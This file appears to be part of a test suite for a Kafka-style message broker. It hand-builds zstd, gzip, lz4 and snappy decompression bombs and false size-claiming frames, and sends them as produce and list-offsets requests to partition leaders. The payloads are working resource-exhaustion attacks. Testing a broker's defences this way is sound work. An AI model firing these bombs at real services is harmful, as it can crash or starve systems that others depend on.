"""Small compressed payloads that expand without bound (item 3).

The payloads are made by hand, because building one with a compressor takes as long as opening it.
"""

from __future__ import annotations

import struct
import zlib

from tests.attacks.batches import (
    LIST_OFFSETS_VERSION,
    PRODUCE_VERSION,
    WHEN_MS,
    list_offsets,
    produce,
    sealed,
)
from tests.attacks.registry import attack
from tests.attacks.target import PARTITIONS, TOPIC, Target

ZSTD_BLOCK_BYTES = 128 << 10
CHUNK_BYTES = 1 << 20
MANY = 2 << 30
GZIP_BYTES = 256 << 20
ZSTD_HEAD = struct.pack("<I", 0xFD2FB528) + b"\x00\x58"
"""No content size, no checksum, no dictionary, and a window of 2 MiB."""


def zstd_bomb(size_bytes: int, *, whole: bool = True) -> bytes:
    """Return a zstd frame of blocks that each repeat one byte; the last one may be missing."""
    count = size_bytes // ZSTD_BLOCK_BYTES
    block = (ZSTD_BLOCK_BYTES << 3 | 0b010).to_bytes(3, "little") + b"\x00"
    last = (0b011).to_bytes(3, "little") + b"\x00"
    return ZSTD_HEAD + block * count + (last if whole else b"")


def zstd_claim(size_bytes: int) -> bytes:
    """Return a frame of a few bytes whose header claims `size_bytes` of content."""
    head = struct.pack("<I", 0xFD2FB528) + b"\xe0" + struct.pack("<Q", size_bytes)
    return head + (0b011 | 1 << 3).to_bytes(3, "little") + b"\x00"


def gzip_bomb(size_bytes: int) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = packer.compress(bytes(CHUNK_BYTES)) + packer.flush(zlib.Z_FULL_FLUSH)
    head = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"
    return head + chunk * (size_bytes // CHUNK_BYTES) + packer.flush(zlib.Z_FINISH) + bytes(8)


def lz4_bomb(size_bytes: int) -> bytes:
    """Return a frame of independent blocks of 4 MiB, all the same."""
    import cramjam

    block_bytes = 4 << 20
    block = bytes(cramjam.lz4.compress_block(bytes(block_bytes), store_size=False))
    descriptor = b"\x60\x70"
    head = struct.pack("<I", 0x184D2204) + descriptor + lz4_check(descriptor)
    data = struct.pack("<I", len(block)) + block
    return head + data * (size_bytes // block_bytes) + bytes(4)


def lz4_check(descriptor: bytes) -> bytes:
    """Return the second byte of the descriptor's xxHash-32, for fewer than 16 bytes."""
    prime1, prime2, prime3 = 2654435761, 2246822519, 3266489917
    prime5 = 374761393
    value = (prime5 + len(descriptor)) & 0xFFFFFFFF
    for byte in descriptor:
        value = (value + byte * prime5) & 0xFFFFFFFF
        value = ((value << 11 | value >> 21) & 0xFFFFFFFF) * prime1 & 0xFFFFFFFF
    value ^= value >> 15
    value = value * prime2 & 0xFFFFFFFF
    value ^= value >> 13
    value = value * prime3 & 0xFFFFFFFF
    value ^= value >> 16
    return bytes((value >> 8 & 0xFF,))


def snappy_claim(size_bytes: int) -> bytes:
    """Return a raw block that claims `size_bytes` and holds one literal."""
    out = bytearray()
    while size_bytes > 0x7F:
        out.append(size_bytes & 0x7F | 0x80)
        size_bytes >>= 7
    out.append(size_bytes)
    return bytes(out) + b"\x00x"


def snappy_bomb(size_bytes: int) -> bytes:
    """Return xerial's framing around many copies of one small block that expands."""
    import cramjam

    block_bytes = 1 << 20
    block = bytes(cramjam.snappy.compress_raw(bytes(block_bytes)))
    head = b"\x82SNAPPY\x00" + struct.pack(">ii", 1, 1)
    return head + (struct.pack(">i", len(block)) + block) * (size_bytes // block_bytes)


def bombs(*, quick: bool) -> dict[str, tuple[int, bytes]]:
    """Return the codec and the payload of each bomb."""
    scale = 8 if quick else 1
    return {
        "zstd": (4, zstd_bomb(MANY // scale)),
        "zstd that does not end": (4, zstd_bomb(MANY // scale, whole=False)),
        "zstd of 8 GB": (4, zstd_bomb(8 << 30)) if not quick else (4, zstd_bomb(MANY)),
        "zstd claim": (4, zstd_claim(1 << 62)),
        "gzip": (1, gzip_bomb(GZIP_BYTES // scale)),
        "lz4": (3, lz4_bomb(GZIP_BYTES // scale)),
        "snappy claim": (2, snappy_claim((1 << 32) - 1)),
        "snappy": (2, snappy_bomb((GZIP_BYTES // scale) // 2)),
    }


@attack(3)
async def decompression_bombs(target: Target) -> None:
    """Produce batches that expand to gigabytes, and ask for offsets inside of them by time."""
    for index, (codec, payload) in enumerate(bombs(quick=target.quick).values()):
        partition = index % PARTITIONS
        leader = await target.leader_of(TOPIC, partition)
        count = 1_000_000
        batch = sealed(payload, attributes=codec, record_count=count, last_offset_delta=count - 1)
        small = sealed(payload, attributes=codec)
        for each in (small, batch):
            await target.fire(leader, (produce(each, partition), PRODUCE_VERSION))
        asked = [(list_offsets(partition, when), LIST_OFFSETS_VERSION) for when in (0, WHEN_MS)]
        await target.fire(leader, *asked)
